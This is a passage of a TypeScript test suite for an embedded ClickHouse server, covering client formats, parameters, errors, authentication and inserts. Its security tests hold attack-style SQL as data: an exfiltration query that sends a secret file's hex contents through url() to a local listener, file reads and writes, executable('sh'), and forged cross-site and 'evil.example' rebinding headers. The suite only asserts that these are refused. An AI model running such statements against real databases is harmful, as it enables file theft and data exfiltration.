/**
 * The embedded ClickHouse as its clients see it: @clickhouse/client and plain HTTP against the real child process.
 *
 * @module
 */

import "../support/clean_environment.ts";
import {
  type ClickHouseClient,
  ClickHouseError,
  ClickHouseLogLevel,
  createClient,
  TupleParam,
} from "@clickhouse/client";
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { fileURLToPath } from "node:url";
import { Readable } from "node:stream";
import { curlLine, startClickHouse } from "../../embedded/clickhouse/start.ts";
import { freePort } from "../../embedded/process/ports.ts";

type Server = Awaited<ReturnType<typeof startClickHouse>>;

let home: string;
let server: Server;
let client: ClickHouseClient;

Deno.test.beforeAll(async () => {
  home = await Deno.makeTempDir({ prefix: "clickhouse_" });
  server = await start(home);
  client = createClient({ ...login(server), database: "t", log: { level: ClickHouseLogLevel.OFF } });
  await run("CREATE DATABASE t", "");
});

Deno.test.afterAll(async () => {
  await client.close();
  await server.stop();
  await Deno.remove(home, { recursive: true });
});

function start(folder: string): Promise<Server> {
  return startClickHouse({ home: folder, port: freePort(), logFile: `${folder}/server.log` });
}

/** What the client needs to be let in. */
function login({ url, env }: Server) {
  return { url, username: env.CLICKHOUSE_USER, password: env.CLICKHOUSE_PASSWORD };
}

/** Sends a statement in a body; `search` is what stands behind the address's `?`. */
function post(body: BodyInit, search = "database=t", init: RequestInit = {}): Promise<Response> {
  const headers = { ...server.headers, ...init.headers };
  return fetch(`${server.url}/?${search}`, { method: "POST", body, ...init, headers });
}

async function text(body: BodyInit, search?: string): Promise<string> {
  return await (await post(body, search)).text();
}

/** Runs a statement that answers nothing. */
async function run(body: BodyInit, search?: string): Promise<void> {
  assert.equal(await text(body, search), "");
}

/** Asks until the answer is the expected one. A server that never gives it hangs the test, for a minute at most. */
async function until(query: string, expected: (answer: string) => boolean): Promise<void> {
  const signal = AbortSignal.timeout(60_000);
  for (let answer = ""; !expected(answer); answer = (await text(query)).trim()) {
    assert.doesNotMatch(answer, /^Code: /);
    signal.throwIfAborted();
  }
}

Deno.test("embedded clickhouse: rows keep every digit, microsecond and character from insert to select", async () => {
  await client.command({
    query:
      "CREATE TABLE typed (price Decimal(38, 18), time DateTime64(6, 'UTC'), product LowCardinality(String), " +
      "side Enum8('buy' = 1, 'sell' = 2), id UInt64, tags Array(String), note Nullable(String)) ENGINE = MergeTree ORDER BY id",
  });
  const rows = [
    {
      price: "12345678901234567890.123456789012345678",
      time: "2026-07-07 22:58:17.123456",
      product: "BTC-USD",
      side: "sell",
      id: "18446744073709551615",
      tags: ["it's", 'a "b"', "\\n", "\n\n", "é漢😀"],
      note: null,
    },
    {
      price: "-0.000000000000000001",
      time: "1970-01-01 00:00:00.000001",
      product: "",
      side: "buy",
      id: "0",
      tags: [],
      note: "",
    },
  ];
  await client.insert({ table: "typed", values: rows, format: "JSONEachRow" });
  const stored = await client.query({
    query: "SELECT * FROM typed ORDER BY id DESC",
    format: "JSONEachRow",
    clickhouse_settings: { output_format_json_quote_64bit_integers: 1, output_format_json_quote_decimals: 1 },
  });
  // A quoted decimal loses its trailing zeros only.
  assert.deepEqual(await stored.json(), rows);
});

Deno.test("embedded clickhouse: the client reads each format, and its header says which", async () => {
  const query = "SELECT number AS n, toString(number) AS s FROM numbers(2)";
  const json = await client.query({ query, format: "JSON" });
  assert.match(String(json.response_headers["content-type"]), /^application\/json/);
  assert.deepEqual((await json.json<{ n: number; s: string }>()).data, [{ n: 0, s: "0" }, { n: 1, s: "1" }]);
  const compact = await client.query({ query, format: "JSONCompactEachRow" });
  assert.equal(compact.response_headers["x-clickhouse-format"], "JSONCompactEachRow");
  assert.deepEqual(await compact.json(), [[0, "0"], [1, "1"]]);
  const csv = await client.query({ query, format: "CSVWithNames" });
  assert.match(String(csv.response_headers["content-type"]), /header=present/);
  assert.equal(await csv.text(), '"n","s"\n0,"0"\n1,"1"\n');
  assert.equal(await text(query, "default_format=TSV"), "0\t0\n1\t1\n");
  assert.equal(await text("SELECT 1 AS x FORMAT Vertical"), "Row 1:\n──────\nx: 1\n");
});

Deno.test("embedded clickhouse: parameters are put in by the engine, whatever they hold", async () => {
  const values = {
    text: "it's \\ \"q\" \t\n\0 é {x:String} '; DROP TABLE t",
    list: ["a'b", "c\\d", "\n"],
    nested: [[1, 2], []],
    price: "1.000000000000000001",
    nothing: null,
    pair: new TupleParam([7, "x'"]),
    map: new Map([["k'", 1]]),
    time: new Date("2026-07-07T22:58:17.123Z"),
    table: "typed",
  };
  const result = await client.query({
    query:
      "SELECT {text:String} AS text, {list:Array(String)} AS list, {nested:Array(Array(UInt8))} AS nested, " +
      "toString({price:Decimal(38, 18)}) AS price, {nothing:Nullable(String)} AS nothing, {pair:Tuple(UInt8, String)} AS pair, " +
      "{map:Map(String, UInt8)} AS map, {time:DateTime64(3, 'UTC')} AS time, {table:Identifier} AS column FROM (SELECT 1 AS typed)",
    format: "JSONEachRow",
    query_params: values,
  });
  assert.deepEqual(await result.json(), [{
    ...{ text: values.text, list: values.list, nested: values.nested, price: values.price, nothing: null },
    ...{ pair: [7, "x'"], map: { "k'": 1 }, time: "2026-07-07 22:58:17.123", column: 1 },
  }]);
  assert.equal(await text("SELECT hex({b:String})", "param_b=%FF%00a%5C%5C%27"), "FF00615C27\n");
  assert.equal(await text("SELECT hex({b:Array(String)}[1])", "param_b=%5B%27%FF%5C%27%27%5D"), "FF27\n");
  const form = new FormData();
  form.append("query", "SELECT {x:String}, {y:UInt8}");
  form.append("param_x", "it's");
  assert.equal(await text(form, "param_y=2&default_format=CSV"), '"it\'s",2\n');
});

Deno.test("embedded clickhouse: settings and database of a statement don't reach the next one", async () => {
  const max = "SELECT getSetting('max_block_size'), currentDatabase()";
  const before = await text(max, "");
  assert.equal(await text(max, "max_block_size=1234&database=t"), "1234\tt\n");
  assert.equal(await text(max, ""), before);
  await run("SET max_block_size = 4321");
  assert.equal(await text(max, ""), before);
  assert.match(await text("SELECT {p:String}", "param_q=1"), /^Code: 456/);
});

Deno.test("embedded clickhouse: errors carry ClickHouse's code, name and status", async () => {
  await assert.rejects(
    client.query({ query: "SELECT * FROM nowhere" }),
    (error) => error instanceof ClickHouseError && error.code === "60" && error.type === "UNKNOWN_TABLE",
  );
  const cases: [statement: string, search: string, status: number, body: RegExp][] = [
    [
      "SELECT * FROM no.table",
      "",
      404,
      /^Code: 81\. DB::Exception: .*\(UNKNOWN_DATABASE\) \(version [\d.]+\)\n$/,
    ],
    ["SELECT 1", "database=no", 404, /^Code: 81\. /],
    ["SELECT 1", "no_such_setting=1", 404, /^Code: 115\. .*no_such_setting/],
    ["SELEC 1", "", 400, /^Code: 62\. DB::Exception: Syntax error/],
    ["", "", 400, /^Code: 62\. /],
    ["SELECT 1; SELECT 2", "", 400, /^Code: 62\. .*Multi-statements are not allowed/],
    ["SELECT toUInt8('x')", "", 400, /^Code: 6\. .*CANNOT_PARSE_TEXT/],
    ["SELECT 1 + 'a'", "", 500, /^Code: 43\. .*ILLEGAL_TYPE_OF_ARGUMENT/],
    ["INSERT INTO typed (id) FORMAT CSV\nx\n", "database=t", 400, /^Code: 117\. .*\(at row 1\)/s],
    ["SELECT 1 FORMAT Nothing", "", 404, /^Code: 73\. /],
    ["SELECT sleep(3)", "max_execution_time=0.1", 408, /^Code: 159\. .*TIMEOUT_EXCEEDED/],
    ["SELECT groupArray(number) FROM numbers(100000000)", "max_memory_usage=50000000", 500, /^Code: 241\. /],
    ["CREATE TABLE t.no (a Int8) ENGINE = Memory", "readonly=1", 500, /^Code: 164\. .*READONLY/],
    ["SELECT 1", "compress=1", 501, /^Code: 48\. .*gzip/],
    ["SELECT 1 INTO OUTFILE '/tmp/x'", "", 500, /^Code: 358\. /],
  ];
  for (const [statement, search, status, body] of cases) {
    const response = await post(statement, search);
    const answer = await response.text();
    assert.match(answer, body, statement);
    assert.equal(response.status, status, answer);
    assert.equal(response.headers.get("x-clickhouse-exception-code"), /\d+/.exec(answer)?.[0]);
  }
});

Deno.test("embedded clickhouse: files of the working directory aren't tables", async () => {
  await Deno.stat("deno.json");
  assert.match(await text("SELECT * FROM `deno.json`", ""), /^Code: 60\. .*UNKNOWN_TABLE/);
  await run("CREATE TABLE `deno.json` (a UInt8) ENGINE = MergeTree ORDER BY a", "");
  await run("INSERT INTO `deno.json` VALUES (1)", "");
  assert.equal(await text("SELECT * FROM `deno.json`", ""), "1\n");
});

Deno.test("embedded clickhouse: a GET reads and never writes", async () => {
  const get = (query: string) =>
    fetch(`${server.url}/?database=t&query=${encodeURIComponent(query)}`, { headers: server.headers });
  await run("CREATE TABLE untouched (id UInt64) ENGINE = MergeTree ORDER BY id");
  assert.equal(await (await get("SELECT 1")).text(), "1\n");
  for (
    const query of [
      "CREATE TABLE no (a Int8) ENGINE = Memory",
      "INSERT INTO untouched (id) VALUES (7)",
      "DROP TABLE untouched",
    ]
  ) {
    const response = await get(query);
    assert.equal(response.status, 500);
    assert.match(await response.text(), /^Code: 164\. .*use POST/);
  }
  assert.match(await (await get("SELECT 1 SETTINGS readonly = 0")).text(), /^Code: 164\. /);
  assert.equal(await text("SELECT count() FROM untouched WHERE id = 7"), "0\n");
});

Deno.test("embedded clickhouse: paths are answered as ClickHouse does", async () => {
  const ask = async (path: string, method = "GET") => {
    const response = await fetch(server.url + path, { method });
    return [response.status, await response.text()];
  };
  assert.deepEqual(await ask("/ping"), [200, "Ok.\n"]);
  assert.deepEqual(await ask("/"), [200, "Ok.\n"]);
  assert.deepEqual(await ask("/replicas_status"), [200, "Ok.\n"]);
  assert.deepEqual(await ask("/ping", "HEAD"), [200, ""]);
  const [status, hint] = await ask("/play");
  assert.equal(status, 404);
  assert.match(String(hint), /^There is no handle \/play\n.*Use \/ or \/ping/s);
  assert.deepEqual(await client.ping(), { success: true });
  assert.deepEqual(await client.ping({ select: true }), { success: true });
});

/** A request with exactly these headers: `fetch` would set Host itself. */
async function raw(
  target: string,
  headers: Record<string, string>,
  method = "GET",
  body = "",
): Promise<{ status: number; text: string; headers: string }> {
  const { hostname, port } = new URL(server.url);
  const connection = await Deno.connect({ hostname, port: Number(port) });
  const all = {
    host: `${hostname}:${port}`,
    ...headers,
    connection: "close",
    "content-length": `${body.length}`,
  };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`).join("");
  await connection.write(new TextEncoder().encode(`${method} ${target} HTTP/1.1\r\n${head}\r\n${body}`));
  const answer = await new Response(connection.readable).text();
  const [first = "", text = ""] = answer.split(/\r\n\r\n([^]*)/);
  return { status: Number(first.split(" ")[1]), text, headers: first.toLowerCase() };
}

const statementTarget = (statement: string, search = "") =>
  `/?query=${encodeURIComponent(statement)}${search}`;

/** What reaches a port of this machine. */
function listen() {
  const heard: string[] = [];
  const sink = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    heard.push(`${request.method} ${request.url}`);
    return new Response("a,b\n1,2\n");
  });
  return { url: `http://127.0.0.1:${sink.addr.port}`, heard, stop: () => sink.shutdown() };
}

Deno.test("embedded clickhouse: a page of another site reaches no file, no address, no table and no setting, whatever it knows", async () => {
  const sink = listen();
  const existing = `${home}/existing.txt`;
  await Deno.writeTextFile(existing, "mine\n");
  await run("CREATE TABLE victim (a UInt8) ENGINE = MergeTree ORDER BY a");
  const { hostname, port } = new URL(server.url);
  const attacks: [string, string][] = [
    [`INSERT INTO FUNCTION file('${home}/new.csv', 'TSVRaw', 'a String') SELECT 'x'`, ""],
    [
      `INSERT INTO FUNCTION file('${existing}', 'TSVRaw', 'a String') SELECT 'x'`,
      "&engine_file_truncate_on_insert=1",
    ],
    [
      `SELECT * FROM url(concat('${sink.url}/', (SELECT hex(any(line)) FROM file('${existing}', 'LineAsString'))), 'LineAsString')`,
      "",
    ],
    [`SELECT file('${existing}')`, ""],
    [`DESCRIBE TABLE url('${sink.url}/describe.csv')`, ""],
    ["INSERT INTO t.victim VALUES (1)", ""],
    ["DROP TABLE t.victim", ""],
    ["SET GLOBAL max_threads = 1", ""],
    ["SELECT 1", ""],
  ];
  const pages: [string, Record<string, string>][] = [
    ["an image", { "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "image" }],
    ["a script", { "sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "sec-fetch-dest": "script" }],
    ["a frame", { "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-dest": "iframe" }],
    ["a link", { "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate", "sec-fetch-user": "?1" }],
    ["another port's page", { "sec-fetch-site": "same-site", origin: "http://127.0.0.1:3000" }],
    ["a form", { origin: "https://example.com", "content-type": "text/plain" }],
    ["a sandboxed frame", { origin: "null", "content-type": "text/plain" }],
    ["an image of an old browser", { referer: "https://example.com/" }],
    ["a rebound name", { host: `evil.example:${port}` }],
  ];
  try {
    for (const [statement, search] of attacks) {
      for (const [page, headers] of pages) {
        for (const login of [{}, server.headers]) {
          for (
            const answer of [
              await raw(statementTarget(statement, search), { ...headers, ...login }),
              await raw(`/?${search}`, { ...headers, ...login }, "POST", statement),
            ]
          ) {
            assert.equal(answer.status, 403, `${page}: ${statement}: ${answer.text}`);
            assert.match(answer.text, /^Code: 497\. .*ACCESS_DENIED/);
          }
        }
      }
      // Old browsers name no page: without the password they get nothing all the same.
      for (const host of [`${hostname}:${port}`, `localhost:${port}`]) {
        assert.equal((await raw(statementTarget(statement, search), { host })).status, 401, statement);
        assert.equal((await raw(`/?${search}`, { host }, "POST", statement)).status, 401, statement);
      }
      // And an image with it, which a browser would send that has been told the password.
      if (statement !== "SELECT 1") {
        const { status, text } = await raw(statementTarget(statement, search), server.headers);
        assert.equal(status, 500, text);
        assert.match(text, /^Code: 164\. .*use POST/, statement);
      }
    }
    assert.equal(
      (await raw(statementTarget("SELECT 1"), { ...server.headers, "sec-fetch-site": "none" })).text,
      "1\n",
    );
    assert.equal(await text("SELECT count() FROM victim"), "0\n");
    assert.equal(await Deno.readTextFile(existing), "mine\n");
    await assert.rejects(Deno.stat(`${home}/new.csv`), Deno.errors.NotFound);
    assert.deepEqual(sink.heard, []);
    // The sink does hear what the owner asks for.
    assert.equal(await text(`SELECT a FROM url('${sink.url}/x.csv', 'CSVWithNames')`), "1\n");
    assert.notDeepEqual(sink.heard, []);
  } finally {
    await sink.stop();
  }
});

Deno.test("embedded clickhouse: a GET reaches no file and no address by any function of the engine", async () => {
  const sink = listen();
  const secret = `${home}/secret.txt`;
  await Deno.writeTextFile(secret, "secret\n");
  const get = (statement: string, search = "") => raw(statementTarget(statement, search), server.headers);
  const refused = async (statement: string, search = "") => {
    const { text } = await get(statement, search);
    assert.match(text, /^Code: \d+\. /, statement);
    assert.doesNotMatch(text, /secret\n|73656372/, statement);
    return Number(/\d+/.exec(text)?.[0]);
  };
  try {
    for (
      const [statement, search] of [
        [`SELECT * FROM file('${secret}', 'LineAsString')`],
        [`SELECT * FROM \`${secret}\``, "&database=default"],
        [`SELECT 'secret' IN default.\`${secret}\``],
        [`SELECT hasColumnInTable('default', '${secret}', 'c1')`],
        [`SELECT file('${secret}')`],
        [`SELECT arrayMap(file, ['${secret}'])`],
        [`SELECT arrayMap({f:Identifier}, ['${secret}'])`, "&param_f=file"],
        [`SELECT arrayMap(\`f\\x69le\`, ['${secret}'])`],
        [`SELECT TOP 1. file('${secret}')`],
        [`SELECT * APPLY file FROM (SELECT '${secret}')`],
        [`SELECT * FROM eval('SELECT file(\\'${secret}\\')')`, "&allow_experimental_eval_table_function=1"],
        [`DESCRIBE TABLE file('${secret}')`],
        [`DESCRIBE TABLE url('${sink.url}/a.csv')`],
        [`EXISTS TABLE default.\`${secret}\``],
        [`SELECT * FROM url('${sink.url}/b.csv')`],
        [`SELECT * FROM view(SELECT * FROM url('${sink.url}/c.csv'))`],
        [`SELECT * FROM s3('${sink.url}/bucket/d.csv', 'CSV', 'a String')`],
        [`SELECT * FROM remote('${new URL(sink.url).host}', system.one)`],
        [`SELECT * FROM mysql('${new URL(sink.url).host}', 'd', 't', 'u', 'p')`],
        [`SELECT * FROM executable('sh', 'TSV', 'a String')`],
        [`SELECT * FROM sqlite('${secret}', 't')`],
        [`CREATE TEMPORARY TABLE x ENGINE = URL('${sink.url}/e.csv')`],
        [`BACKUP DATABASE t TO S3('${sink.url}/f')`],
        [`SELECT 1 INTO\u00a0OUTFILE '${home}/out.txt'`],
        ["SELECT 1 SETTINGS max_threads = 1"],
        ["SET max_threads = 1"],
        ["SYSTEM DROP QUERY CACHE"],
        ["KILL QUERY WHERE 1"],
        ["SELECT 1", "&format_schema=x"],
        ["SELECT 1", "&readonly=0"],
      ] as [string, string?][]
    ) assert.equal(await refused(statement, search), 164, statement);
    // Table functions that a new engine brings are refused as those of this one, unless it calls them harmless itself.
    const risky = (await text("SELECT name FROM system.table_functions WHERE NOT allow_readonly")).trim()
      .split("\n");
    assert.ok(risky.length > 50);
    for (const name of risky) await refused(`SELECT * FROM ${name}('${sink.url}/g.csv', 'CSV', 'a String')`);
    const harmless = "SELECT name FROM system.table_functions WHERE allow_readonly AND name NOT IN (" +
      "'SQLStandardValues', 'cluster', 'clusterAllReplicas', 'eval', 'fuzzJSON', 'fuzzQuery', 'generateRandom', " +
      "'generateSeries', 'generate_series', 'input', 'merge', 'null', 'numbers', 'numbers_mt', 'primes', 'values', " +
      "'view', 'viewIfPermitted') AND name NOT LIKE 'mergeTree%'";
    assert.equal(await text(harmless), "", "look at these: may a GET call them?");
    const asking = await text("SELECT name FROM system.functions WHERE categories = 'AI' AND alias_to = ''");
    for (const name of asking.trim().split("\n")) {
      assert.equal(await refused(`SELECT ${name}('a', 'b')`), 164, name);
    }
    assert.deepEqual(sink.heard, []);
    await assert.rejects(Deno.stat(`${home}/out.txt`), Deno.errors.NotFound);
  } finally {
    await sink.stop();
  }
});

Deno.test("embedded clickhouse: a GET brings limits and the form of its answer, and still reads only", async () => {
  const get = async (statement: string, search: string) =>
    (await raw(statementTarget(statement, search), server.headers)).text;
  assert.equal(await get("SELECT getSetting('max_threads')", "&max_threads=3"), "3\n");
  assert.equal(await get("SELECT {x:String}", "&param_x=it's"), "it\\'s\n");
  assert.equal(
    await get(
      "SELECT 18446744073709551615 AS n FORMAT JSONEachRow",
      "&output_format_json_quote_64bit_integers=1",
    ),
    '{"n":"18446744073709551615"}\n',
  );
  assert.match(await get("SELECT number FROM numbers(10)", "&max_result_rows=1"), /^Code: 396\. /);
  assert.equal(await get("SELECT getSetting('readonly')", "&max_threads=3"), "1\n");
});

Deno.test("embedded clickhouse: who names no password or a wrong one gets ClickHouse's error, and a ping says nothing", async () => {
  const { user, key } = { user: server.env.CLICKHOUSE_USER, key: server.env.CLICKHOUSE_PASSWORD };
  const basic = (password: string) => ({ authorization: `Basic ${btoa(`${user}:${password}`)}` });
  const cases: [string, Record<string, string>, number, RegExp][] = [
    ["", {}, 401, /^Code: 194\. .*\(REQUIRED_PASSWORD\)/],
    ["&user=default", {}, 401, /^Code: 194\. /],
    ["", { "x-clickhouse-user": user }, 401, /^Code: 194\. /],
    ["&password=wrong", {}, 403, /^Code: 516\. .*\(AUTHENTICATION_FAILED\)/],
    ["", { "x-clickhouse-key": "wrong" }, 403, /^Code: 516\. /],
    ["", basic("wrong"), 403, /^Code: 516\. /],
    ["", { "x-clickhouse-user": "admin", "x-clickhouse-key": key }, 403, /^Code: 516\. /],
    ["", { ...basic(key), "x-clickhouse-key": key }, 403, /^Code: 516\. .*simultaneously/],
    [`&password=${key}`, {}, 200, /^1\n$/],
    [`&user=${user}&password=${key}`, {}, 200, /^1\n$/],
    ["", { "x-clickhouse-key": key }, 200, /^1\n$/],
    ["", basic(key), 200, /^1\n$/],
  ];
  for (const [search, headers, status, body] of cases) {
    for (
      const answer of [
        await raw(statementTarget("SELECT 1", search), headers),
        await raw(`/?${search.slice(1)}`, headers, "POST", "SELECT 1"),
      ]
    ) {
      assert.equal(answer.status, status, answer.text);
      assert.match(answer.text, body);
      const says = /x-clickhouse-(server-display-name|timezone)/.test(answer.headers);
      assert.equal(says, status === 200);
    }
  }
  const ping = await raw("/ping", {});
  assert.equal(ping.text, "Ok.\n");
  assert.doesNotMatch(ping.headers, /x-clickhouse|server/);
  await assert.rejects(
    createClient({ url: server.url, log: { level: ClickHouseLogLevel.OFF } }).query({ query: "SELECT 1" }),
    { code: "194", type: "REQUIRED_PASSWORD" },
  );
});

Deno.test("embedded clickhouse: the line for curl works as it stands, and the password isn't in it", async () => {
  for (
    const [folder, chosen] of [["plain", {}], ['it\'s "a" folder', {
      user: "me",
      password: "p \"w\\' #",
    }]] as const
  ) {
    const own = `${home}/${folder}`;
    const other = await startClickHouse({
      home: own,
      port: freePort(),
      logFile: `${home}/other.log`,
      ...chosen,
    });
    try {
      const line = curlLine(
        own,
        `${other.url}/?database=system`,
        "SELECT 'it''s', name FROM one, databases WHERE name = 'system'",
      );
      assert.ok(!line.includes(other.env.CLICKHOUSE_PASSWORD));
      const { stdout, stderr } = await new Deno.Command("sh", { args: ["-c", line], stdin: "null" }).output();
      assert.equal(new TextDecoder().decode(stdout), "it\\'s\tsystem\n", new TextDecoder().decode(stderr));
    } finally {
      await other.stop();
    }
    const log = await Deno.readTextFile(`${home}/other.log`);
    assert.ok(!log.includes(other.env.CLICKHOUSE_PASSWORD), log);
  }
});

Deno.test("embedded clickhouse: a password that is set counts, and without it the kept one counts again", async () => {
  await withOwnServer(async (first, folder) => {
    const login = (server: Server) =>
      fetch(`${server.url}/?query=SELECT+1`, { headers: first.headers }).then((r) => r.text());
    assert.equal(await login(first), "1\n");
    await first.stop();
    const second = await startClickHouse({
      home: folder,
      port: freePort(),
      password: "set",
      logFile: `${folder}/server.log`,
    });
    assert.match(await login(second), /^Code: 516\. /);
    await second.stop();
    const third = await start(folder);
    assert.deepEqual(third.headers, first.headers);
    assert.equal(await login(third), "1\n");
    await third.stop();
  });
});

Deno.test("embedded clickhouse: requests and answers travel as gzip when asked to", async () => {
  const zipped = createClient({
    ...login(server),
    database: "t",
    compression: { request: true, response: true },
  });
  try {
    await zipped.command({ query: "CREATE TABLE zipped (a UInt32) ENGINE = MergeTree ORDER BY a" });
    const values = Array.from({ length: 10_000 }, (_, a) => ({ a }));
    await zipped.insert({ table: "zipped", values, format: "JSONEachRow" });
    const result = await zipped.query({ query: "SELECT a FROM zipped ORDER BY a", format: "JSONEachRow" });
    assert.equal(result.response_headers["content-encoding"], "gzip");
    assert.deepEqual(await result.json(), values);
  } finally {
    await zipped.close();
  }
  const plain = await post("SELECT 1", "", { headers: { "accept-encoding": "gzip" } });
  assert.equal(plain.headers.get("content-encoding"), null);
  await plain.body?.cancel();
  const broken = await post("not gzip", "", { headers: { "content-encoding": "gzip" } });
  assert.match(await broken.text(), /^Code: 36\. .*Content-Encoding gzip/);
});

Deno.test("embedded clickhouse: rows of every format arrive whole, whatever bytes they hold", async () => {
  await run("CREATE TABLE bytes (n UInt64, s String) ENGINE = MergeTree ORDER BY n");
  // The numbers 2570 and 2571 begin with line ends in binary formats; the strings hold what could end a statement.
  const query =
    "SELECT number AS n, concat('a\\n\\nDROP TABLE bytes;\\n', toString(number), '\\0\\xFF\\'\\\\') AS s " +
    "FROM numbers(3000)";
  const formats = [
    "RowBinary",
    "RowBinaryWithNamesAndTypes",
    "Native",
    "Parquet",
    "Arrow",
    "ArrowStream",
    "ORC",
    "Avro",
  ];
  formats.push(
    "MsgPack",
    "CSV",
    "CSVWithNames",
    "TabSeparated",
    "Values",
    "JSONEachRow",
    "JSONCompactEachRow",
  );
  for (const format of formats) {
    const answer = await post(`${query} FORMAT ${format}`);
    assert.equal(answer.status, 200, format);
    const rows = await answer.bytes();
    const inserted = await post(rows, `database=t&query=INSERT+INTO+bytes+FORMAT+${format}`);
    assert.equal(await inserted.text(), "", format);
    const same = await text(
      `SELECT count(), sum(n), (SELECT count() FROM bytes AS b INNER JOIN (${query}) AS q ON b.n = q.n AND b.s = q.s) FROM bytes`,
    );
    assert.equal(same, "3000\t4498500\t3000\n", format);
    await run("TRUNCATE TABLE bytes");
  }
  const inBody = Buffer.concat([Buffer.from("INSERT INTO bytes FORMAT RowBinary\n"), Buffer.alloc(19, 10)]);
  await run(inBody);
  // 0x0A0A0A0A0A0A0A0A, ten bytes of text.
  assert.equal(await text("SELECT n, s FROM bytes FORMAT CSV"), `723401728380766730,"${"\n".repeat(10)}"\n`);
});

Deno.test("embedded clickhouse: a statement may hold any bytes, and so may its error", async () => {
  const bytes = (start: string, end: string) =>
    Buffer.concat([Buffer.from(start), Buffer.from([0xff, 0]), Buffer.from(end)]);
  assert.equal(await text(bytes("SELECT hex('", "')")), "FF00\n");
  assert.match(await text(bytes("SELECT throwIf(1, '", "')")), /^Code: 395\. /);
  assert.match(await text(bytes("SELEC '", "'")), /^Code: 62\. /);
});

Deno.test("embedded clickhouse: empty lines between and inside rows are rows' business", async () => {
  await run("CREATE TABLE gaps (n UInt8, s String) ENGINE = MergeTree ORDER BY n");
  await run('INSERT INTO gaps FORMAT JSONEachRow\n{"n":1}\n\n\n{"n":2}\n');
  await run('INSERT INTO gaps FORMAT CSV\n3,"x\n\nDROP TABLE gaps"\n');
  await run("INSERT INTO gaps VALUES (4, 'a\n\nb'), (5, ';');");
  assert.equal(
    await text("SELECT * FROM gaps ORDER BY n"),
    "1\t\n2\t\n3\tx\\n\\nDROP TABLE gaps\n4\ta\\n\\nb\n5\t;\n",
  );
});

Deno.test("embedded clickhouse: an insert may select, default, take columns apart and bring no rows", async () => {
  await run(
    "CREATE TABLE parts (raw String EPHEMERAL, n UInt8, length UInt64 DEFAULT length(raw)) ENGINE = MergeTree ORDER BY n",
  );
  await client.insert({
    table: "parts",
    columns: ["n", "raw"],
    values: [{ n: 1, raw: "abc" }],
    format: "JSONEachRow",
  });
  await client.insert({
    table: "parts",
    columns: { except: ["length"] },
    values: [[2]],
    format: "JSONCompactEachRow",
  });
  await client.insert({
    table: "parts",
    values: Readable.from([{ n: 3 }], { objectMode: true }),
    format: "JSONEachRow",
  });
  await client.insert({
    table: "parts",
    values: Readable.from([], { objectMode: true }),
    format: "JSONEachRow",
  });
  await client.command({ query: "INSERT INTO parts (n, raw) SELECT number, 'xyz12' FROM numbers(4, 2)" });
  await client.command({
    query: "INSERT INTO {table:Identifier} (n) VALUES (6)",
    query_params: { table: "parts" },
  });
  assert.equal(
    await text("SELECT * FROM parts ORDER BY n FORMAT CSV"),
    "1,3\n2,0\n3,0\n4,5\n5,5\n6,0\n",
  );
  const skipped = 'INSERT INTO parts (n) FORMAT JSONEachRow\n{"n":7,"other":1}';
  assert.match(await text(skipped, "database=t&input_format_skip_unknown_fields=0"), /^Code: 117/);
  const summary = (await post(skipped, "database=t&input_format_skip_unknown_fields=1")).headers.get(
    "x-clickhouse-summary",
  );
  assert.equal(JSON.parse(summary ?? "").written_rows, "1");
  assert.match(
    await text("INSERT INTO parts (n) SELECT a FROM input('a UInt8') FORMAT CSV\n8\n"),
    /^Code: 48\. .*input\(\) isn't offered/,
  );
});

Deno.test("embedded clickhouse: 60 MB with a token are one block, and repeated they change no table and no view behind it", async () => {
  const dedup = "SETTINGS non_replicated_deduplication_window = 100";
  await run(`CREATE TABLE ledger (id UInt64, note String) ENGINE = MergeTree ORDER BY id ${dedup}`);
  for (const [name, from, count] of [["minutes", "ledger", "1"], ["hours", "minutes", "rows"]] as const) {
    await run(
      `CREATE TABLE ${name} (bucket UInt64, rows SimpleAggregateFunction(sum, UInt64), ids AggregateFunction(uniqExact, UInt64)) ` +
        `ENGINE = AggregatingMergeTree ORDER BY bucket ${dedup}`,
    );
    const [bucket, ids] = name === "minutes"
      ? ["id % 1000", "uniqExactState(id)"]
      : ["bucket % 10", "uniqExactMergeState(ids)"];
    await run(
      `CREATE MATERIALIZED VIEW to_${name} TO ${name} AS SELECT b AS bucket, sum(${count}) AS rows, ${ids} AS ids ` +
        `FROM (SELECT *, ${bucket} AS b FROM ${from}) GROUP BY b`,
    );
  }
  const rows = 1_200_000;
  const body = Array.from(
    { length: rows },
    (_, id) => `[${id},"a note that fills the row of number ${id}"]\n`,
  ).join("");
  assert.ok(body.length > 60e6, `${body.length} bytes`);
  const send = async () =>
    await (await post(
      body,
      "database=t&query=INSERT+INTO+ledger+FORMAT+JSONCompactEachRow&insert_deduplication_token=batch-1" +
        "&deduplicate_blocks_in_dependent_materialized_views=1&input_format_parallel_parsing=0",
    )).text();
  const state = () =>
    text(
      "SELECT (SELECT (count(), uniqExact(id)) FROM ledger), (SELECT (sum(rows), uniqExactMerge(ids)) FROM minutes), " +
        "(SELECT (sum(rows), uniqExactMerge(ids)) FROM hours), " +
        "(SELECT groupArray(rows) FROM system.parts WHERE database = 't' AND table = 'ledger')",
    );
  assert.equal(await send(), "");
  const pair = `(${rows},${rows})`;
  assert.equal(await state(), `${pair}\t${pair}\t${pair}\t[${rows}]\n`);
  assert.equal(await send(), "");
  assert.equal(await state(), `${pair}\t${pair}\t${pair}\t[${rows}]\n`);
});

Deno.test("embedded clickhouse: statements run side by side, each with its own settings and parameters", async () => {
  await run("CREATE TABLE many (worker UInt8, n UInt32) ENGINE = MergeTree ORDER BY (worker, n)");
  const work = async (worker: number) => {
    for (let n = 0; n < 10; n++) {
      await client.insert({ table: "many", values: [[worker, n]], format: "JSONCompactEachRow" });
      const result = await client.query({
        query:
          "SELECT {worker:UInt8}, getSetting('max_block_size'), count() FROM many WHERE worker = {worker:UInt8}",
        format: "JSONCompactEachRow",
        query_params: { worker },
        clickhouse_settings: {
          max_block_size: String(1000 + worker),
          output_format_json_quote_64bit_integers: 0,
        },
      });
      assert.deepEqual(await result.json(), [[worker, 1000 + worker, n + 1]]);
    }
  };
  await Promise.all(Array.from({ length: 24 }, (_, worker) => work(worker)));
